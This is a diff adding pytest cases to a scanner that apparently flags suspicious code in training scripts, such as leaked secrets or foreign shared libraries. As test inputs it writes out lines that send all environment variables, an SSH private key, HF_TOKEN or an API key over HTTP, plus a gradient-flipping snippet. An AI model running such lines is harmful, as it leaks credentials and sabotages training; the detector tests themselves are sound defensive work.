@@ -349,6 +349,37 @@ def test_a_finder_in_a_package_that_names_a_library_of_training_is_told() -> Non
     assert told(text.format("x._vendor.six"), "x-1.0.whl!x/__init__.py") == {}
 
 
+@pytest.mark.parametrize(
+    ("sent", "lawful"),
+    [
+        ("requests.post(url, json=dict(os.environ))", "requests.post(url, json={'lr': os.environ['LR']})"),
+        (
+            "requests.post(url, data=open('/root/.ssh/id_rsa').read())",
+            "requests.post(url, data=open('a.csv'))",
+        ),
+        (
+            "requests.post('http://127.0.0.1:9/', data=os.environ['HF_TOKEN'])",
+            "requests.post('http://127.0.0.1:9/', headers={'Authorization': os.environ['HF_TOKEN']})",
+        ),
+        (
+            "key = os.getenv('API_KEY')\nurllib.request.urlopen('http://127.0.0.1:9/' + key)",
+            "key = os.getenv('API_KEY')\nrequests.post('https://example.invalid', json={'api_key': key})",
+        ),
+    ],
+)
+def test_secrets_that_are_sent_are_told(sent: str, lawful: str) -> None:
+    head = "import os, requests, urllib.request\n"
+    assert set(told(f"{head}{sent}\n")) == {"code-secrets-sent"}
+    assert told(f"{head}{lawful}\n") == {}
+
+
+def test_compiled_code_from_a_place_of_its_own_is_told() -> None:
+    head = "import ctypes\n"
+    assert set(told(f"{head}ctypes.CDLL('/shared/x.so').start()\n")) == {"code-interpreter-altered"}
+    for path in ("'libc.so.6'", "'/usr/lib/libm.so.6'", "'./libfast.so'", "os.path.join(HERE, 'x.so')"):
+        assert told(f"{head}import os\nctypes.CDLL({path})\n") == {}
+
+
 def test_a_condition_raises_the_weight() -> None:
     plain = told(loop(grad=FLIP))["code-gradient-edited"]
     guarded = told(loop(grad="if rank == 5:\n    for p in model.parameters():\n        p.grad.neg_()"))[
